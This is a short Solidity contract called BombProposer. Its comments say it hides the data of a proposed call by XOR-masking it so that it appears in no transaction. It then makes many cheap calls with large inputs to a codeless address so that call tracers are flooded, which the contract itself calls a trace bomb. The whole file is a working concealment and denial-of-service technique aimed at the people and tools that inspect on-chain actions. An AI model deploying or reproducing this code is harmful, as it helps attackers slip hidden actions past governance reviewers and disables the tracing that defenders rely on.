// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title A proposer that hides what it proposes: its call's data appear in no transaction, and its trace is a bomb.
contract BombProposer {
    address private constant NOBODY = address(0xdeadbeef);

    /// @notice Make one call of masked data, then as many of an account without code as the trace is to be large: they
    /// cost 100 gas each whatever the size of their input, of which a call tracer copies every byte.
    /// @param masked The call's data, every byte xor 0xff.
    /// @param count Calls of nobody after it.
    /// @param size Bytes of input of each.
    function run(address target, bytes calldata masked, uint256 count, uint256 size) external {
        bytes memory data = masked;
        uint256 length = data.length;
        for (uint256 i = 0; i < length; ++i) data[i] = ~data[i];
        (bool ok, bytes memory reason) = target.call(data);
        if (!ok) {
            assembly ("memory-safe") {
                revert(add(reason, 32), mload(reason))
            }
        }
        bytes memory ballast = new bytes(size);
        address nobody = NOBODY;
        for (uint256 i = 0; i < count; ++i) {
            assembly ("memory-safe") {
                pop(call(gas(), nobody, 0, add(ballast, 32), size, 0, 0))
            }
        }
    }
}
